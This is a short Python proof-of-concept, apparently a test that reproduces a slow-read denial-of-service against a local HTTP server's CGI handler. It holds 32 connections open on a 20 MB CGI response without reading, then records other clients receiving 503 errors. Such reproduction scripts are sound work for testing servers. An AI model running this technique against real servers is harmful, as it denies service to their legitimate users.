#!/usr/bin/env python3
# HTTP/1.1 variant: 32 connections request /cgi-bin/bigout.sh (20 MB) and never read. Other clients' CGI requests get 503.
import socket, sys, time, subprocess
P = int(sys.argv[1]); S = int(sys.argv[2]) if len(sys.argv) > 2 else 32; hold = float(sys.argv[3]) if len(sys.argv) > 3 else 25
socks = []
for i in range(S):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.settimeout(3); s.connect(("127.0.0.1", P))
    s.sendall(b"GET /cgi-bin/bigout.sh HTTP/1.1\r\nHost: a.test\r\n\r\n"); socks.append(s)
t0 = time.time(); time.sleep(1)
while time.time() - t0 < hold:
    r = subprocess.run(["curl", "-s", "-m", "14", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", f"http://127.0.0.1:{P}/cgi-bin/status.sh"], capture_output=True, text=True)
    print(f"t={time.time()-t0:5.1f}s other client -> {r.stdout}")
for s in socks: s.close()
time.sleep(1.5)
r = subprocess.run(["curl", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", f"http://127.0.0.1:{P}/cgi-bin/status.sh"], capture_output=True, text=True)
print("after closing:", r.stdout)
